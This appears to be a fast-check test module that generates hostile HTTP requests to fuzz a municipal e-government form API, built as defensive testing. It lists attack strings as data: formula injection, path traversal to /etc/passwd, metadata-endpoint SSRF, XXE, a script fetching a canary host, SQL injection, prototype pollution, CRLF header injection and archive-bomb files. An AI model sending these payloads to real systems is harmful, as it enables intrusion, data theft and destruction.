import fc from 'fast-check'

import { formAnswers } from '../form-answers.ts'
import { anArchive, anSvg, anXxe, aPdf, aPng, aWordFile } from '../hostile-files.ts'

/** Stands in everything that must not be stored in clear, wherever it was sent. */
export const mark = 'Zzq7Unstored'

/** What hostile inputs are aimed at. */
export interface Targets {
  /** An address that nobody may ask. */
  canary: string
  draft: string
  number: string
  statusToken: string
}

/** A request to one of the endpoints that take something. */
export interface HostileRequest {
  method: string
  path: string
  headers: Record<string, string>
  body: Uint8Array<ArrayBuffer> | string | undefined
}

const texts = ({ canary }: Targets): string[] => [
  `=cmd|' /C calc'!A0 ${mark}`,
  `@SUM(1+1)*${mark}`,
  `../../../../etc/passwd\0${mark}`,
  `..\\..\\windows\\${mark}.ini`,
  `file:///etc/passwd?${mark}`,
  `${canary}/${mark}`,
  `http://169.254.169.254/latest/meta-data/?${mark}`,
  `<!DOCTYPE a [<!ENTITY b SYSTEM "${canary}/${mark}">]><a>&b;</a>`,
  `<script>fetch("${canary}/${mark}")</script>`,
  `'; drop table submissions; -- ${mark}`,
  `\u202E${mark}\uD800`,
  `{{7*7}}\${7*7}${mark}`,
  mark.repeat(9000),
  '\0',
  '',
]

/** JSON as it is sent: not all of it could be written by a library. */
const jsonOf = (targets: Targets): fc.Arbitrary<string> => {
  const text = fc.constantFrom(...texts(targets)).map((value) => JSON.stringify(value))
  const odd = fc.constantFrom(
    'null',
    'true',
    '-1e999',
    '1e308',
    '[]',
    '{}',
    '9007199254740993',
    `{"__proto__":{"polluted":"${mark}"}}`,
    `{"constructor":{"prototype":{"polluted":"${mark}"}}}`,
    '['.repeat(3000) + ']'.repeat(3000),
    '{"a":'.repeat(3000) + '1' + '}'.repeat(3000),
    '{"a":1,"a":2}',
    '{"a":',
  )
  return fc.oneof(text, odd, fc.json({ maxDepth: 4 }), fc.string({ unit: 'binary' }))
}

const names = [
  '__proto__',
  'constructor',
  'toString',
  'lastName',
  'dogName',
  mark,
  '',
  'a/b',
  '$now',
]

/** Right answers but for one, or for one more. */
const spoiled = (targets: Targets, form: string): fc.Arbitrary<string> =>
  fc.tuple(fc.constantFrom(...names), jsonOf(targets)).map(([name, value]) => {
    const right = JSON.stringify(formAnswers[form] ?? {}).slice(1, -1)
    return `{${right},${JSON.stringify(name)}:${value}}`
  })

const json =
  (method: string, path: string, headers: Record<string, string> = {}) =>
  (body: string): HostileRequest => ({
    method,
    path,
    headers: { 'content-type': 'application/json', ...headers },
    body,
  })

const files = fc
  .constantFrom(
    anSvg,
    anXxe,
    aPng(80_000, 80_000),
    aPng(40, 40),
    aPng(40, 40).subarray(0, 40),
    aPdf(mark),
    anArchive([{ name: '../../evil', data: Buffer.from(mark) }]),
    aWordFile({ name: 'bomb', data: Buffer.alloc(3_000_000) }),
    Buffer.from('GIF89a'),
    Buffer.from(`<html>${mark}</html>`),
    Buffer.from('MZ'.padEnd(300, '\0')),
    Buffer.alloc(0),
  )
  .map((bytes) => new Uint8Array(bytes))

const fileNames = [
  '../../../etc/cron.d/evil',
  'C:\\Windows\\evil.exe',
  '=HYPERLINK("x").pdf',
  'a\r\nSet-Cookie: x=1.pdf',
  '%00.pdf',
  '.htaccess',
  'x'.repeat(3000),
  '\u202Efdp.exe',
].map((name) => encodeURIComponent(`${name}${mark}`))

/** Keys that make sending again harmless, and what somebody takes for one. */
const keys = fc.oneof(
  { weight: 9, arbitrary: fc.uuid() },
  { weight: 1, arbitrary: fc.constantFrom('', 'short', '../../../../../../x', '__proto__') },
)

/** The same, or none. */
const maybeKeyed = fc
  .option(keys, { nil: undefined })
  .map((key): Record<string, string> => (key === undefined ? {} : { 'idempotency-key': key }))

const uploads = ({ number, statusToken }: Targets): fc.Arbitrary<HostileRequest> => {
  const fields = ['proof', 'plans', 'lastName', '__proto__', '../x', 'constructor', '']
  const place = fc.oneof(
    fc
      .tuple(
        fc.constantFrom('adressauskunft', 'baugesuch', 'gibt-es-nicht', '../x', ''),
        fc.constantFrom(...fields),
      )
      .map(([form, field]) => {
        const query = new URLSearchParams({ form, field })
        return `/v1/uploads?${query.toString()}`
      }),
    fc.constant(`/v1/submissions/${number}/files`),
  )
  const name = fc.oneof(fc.constantFrom(...fileNames), fc.constantFrom('%E0%A4%A', '%'))
  return fc.tuple(place, files, name, maybeKeyed).map(([path, body, fileName, keyed]) => ({
    method: 'POST',
    path,
    headers: {
      'content-type': 'application/octet-stream',
      'x-file-name': fileName,
      'x-status-token': statusToken,
      ...keyed,
    },
    body,
  }))
}

const submissions = (targets: Targets): fc.Arbitrary<HostileRequest> => {
  const form = fc.constantFrom('raumreservation', 'adressauskunft', 'eumzug-zuzug')
  const sent = form.chain((name) =>
    fc.oneof(
      spoiled(targets, name).map((answers) => `{"form":"${name}","bfs":1103,"answers":${answers}}`),
      jsonOf(targets).map((value) => `{"form":"${name}","bfs":1103,"answers":${value}}`),
      fc
        .tuple(fc.constantFrom(...names, 'form', 'bfs', 'draft', 'proof'), jsonOf(targets))
        .map(
          ([part, value]) =>
            `{"form":"${name}","bfs":1103,"answers":{},${JSON.stringify(part)}:${value}}`,
        ),
      jsonOf(targets),
    ),
  )
  return fc
    .tuple(sent, keys)
    .map(([body, own]) => json('POST', '/v1/submissions', { 'idempotency-key': own })(body))
}

const others = (targets: Targets): fc.Arbitrary<HostileRequest> => {
  const { draft, number, statusToken } = targets
  const any = jsonOf(targets)
  const answers = any.map((value) => `{"answers":${value}}`)
  const begun = any.map((value) => `{"form":"hund-anmelden","answers":{"a":${value}}}`)
  const own = { 'x-status-token': statusToken }
  const odd = `/v1/drafts/${encodeURIComponent(`../${mark}`)}`
  return fc.oneof(
    fc
      .tuple(fc.oneof(begun, any), maybeKeyed)
      .map(([body, keyed]) => json('POST', '/v1/drafts', keyed)(body)),
    answers.map(json('PUT', `/v1/drafts/${draft}`, { 'if-match': '"1"' })),
    answers.map(json('PUT', `/v1/drafts/${draft}`, { 'if-match': `"${mark}"` })),
    answers.map(json('PUT', odd, { 'if-match': '"1"' })),
    any.map((value) => json('POST', `/v1/drafts/${draft}/link`)(`{"email":${value}}`)),
    fc
      .tuple(any, maybeKeyed)
      .map(([value, keyed]) =>
        json('POST', `/v1/submissions/${number}/messages`, { ...own, ...keyed })(
          `{"text":${value}}`,
        ),
      ),
    any.map(json('POST', `/v1/submissions/${number}/withdraw`, { 'x-status-token': mark })),
    any.map(json('POST', '/v1/forms/hund-anmelden/prefill', { authorization: `Bearer ${mark}` })),
    any.map(json('POST', '/v1/me/representations')),
    any.map((value) => json('POST', '/v1/forms/hund-anmelden/progress')(`{"page":${value}}`)),
    any.map((value) => json('POST', '/v1/co-signatures')(`{"token":${value},"agrees":true}`)),
    any.map(
      json('POST', '/v1/callbacks/einwohnerregister', { 'registry-signature': `sha256=${mark}` }),
    ),
    any.map(json('POST', `/v1/callbacks/zahlung/payments/${mark}.${mark}`)),
    any.map(json('POST', `/v1/submissions/${number}/payment`, own)),
    any.map((value) => json('POST', '/v1/forms/hund-anmelden/validate')(`{"answers":${value}}`)),
    any.map((value) =>
      json('POST', '/v1/feedback')(`{"service":"x","rating":"yes","comment":${value}}`),
    ),
    fc.constantFrom(odd, `/v1/uploads/${mark}${mark}`).map((path) => ({
      method: 'DELETE',
      path,
      headers: {},
      body: undefined,
    })),
  )
}

/** Whatever somebody who means harm may send to what takes something. */
export const hostileInputs = (targets: Targets): fc.Arbitrary<HostileRequest> =>
  fc.oneof(submissions(targets), uploads(targets), others(targets))
